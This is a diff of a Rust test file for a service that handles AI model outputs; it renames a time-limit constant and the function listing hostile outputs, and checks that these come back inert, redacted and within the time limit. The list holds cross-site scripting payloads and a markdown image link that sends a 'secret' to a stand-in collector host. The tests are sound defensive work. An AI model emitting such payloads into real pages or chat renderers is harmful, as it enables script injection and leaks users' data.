@@ -16,10 +16,10 @@ use std::{
 };
 
 /// The time limit of a response, far below the time of any quadratic algorithm for these inputs.
-const SOON: Duration = Duration::from_secs(10);
+const TIME_LIMIT: Duration = Duration::from_secs(10);
 
 /// Model outputs that attack consumers which interpret them.
-fn hostile() -> Vec<String> {
+fn hostile_outputs() -> Vec<String> {
     let mut all: Vec<String> = [
         "<script>alert(1)</script><img src=x onerror=alert(1)><svg/onload=alert(1)>",
         "[click](javascript:alert(1)) ![x](https://collector.example/?q=secret) <a href=\"data:text/html,x\">x</a>",
@@ -65,12 +65,12 @@ fn assert_inert_json(answer: &Answer) {
 #[tokio::test]
 async fn model_output_is_returned_unchanged() {
     let (app, workload, provider) = app(&[]).await;
-    for output in hostile() {
+    for output in hostile_outputs() {
         let what: String = output.chars().take(40).collect();
         provider.becomes(Behaviour::Answers(output.clone()));
         let since = Instant::now();
         let answer = run(&app, &workload).await;
-        assert!(since.elapsed() < SOON, "{what}: {:?}", since.elapsed());
+        assert!(since.elapsed() < TIME_LIMIT, "{what}: {:?}", since.elapsed());
         assert_inert_json(&answer);
         let body = answer.expect(200);
         assert_eq!((&body["status"], &body["error"]), (&json!("completed"), &Value::Null), "{what}");
@@ -103,13 +103,13 @@ async fn model_output_is_returned_unchanged() {
 #[tokio::test]
 async fn hostile_model_output_is_redacted_as_text() {
     let (app, workload, provider) = app(&["redact_output"]).await;
-    for output in hostile() {
+    for output in hostile_outputs() {
         let what: String = output.chars().take(40).collect();
         let personal = |mail: &str| format!("{output} {mail} <a href=\"mailto:{mail}\">");
         provider.becomes(Behaviour::Answers(personal("ada@example.org")));
         let since = Instant::now();
         let body = run(&app, &workload).await.expect(200);
-        assert!(since.elapsed() < SOON, "{what}: {:?}", since.elapsed());
+        assert!(since.elapsed() < TIME_LIMIT, "{what}: {:?}", since.elapsed());
         assert_eq!(body["status"], "completed", "{what}");
         let masked = body["output"].as_str().unwrap();
         assert!(!masked.contains("ada@example.org") && masked.starts_with(&what), "{what}: {:.200}", masked);
@@ -149,7 +149,7 @@ async fn hostile_provider_responses_are_rejected_within_bounds() {
         endpoint.says(Script::status(200, &body));
         let since = Instant::now();
         let run_result = run(&app, &workload).await.expect(200);
-        assert!(since.elapsed() < SOON, "{what}: {:?}", since.elapsed());
+        assert!(since.elapsed() < TIME_LIMIT, "{what}: {:?}", since.elapsed());
         assert_eq!(run_result["output"], output, "{what}: {run_result}");
         if output.is_null() {
             assert_eq!(run_result["error"]["code"], "provider_malformed_answer", "{what}: {run_result}");
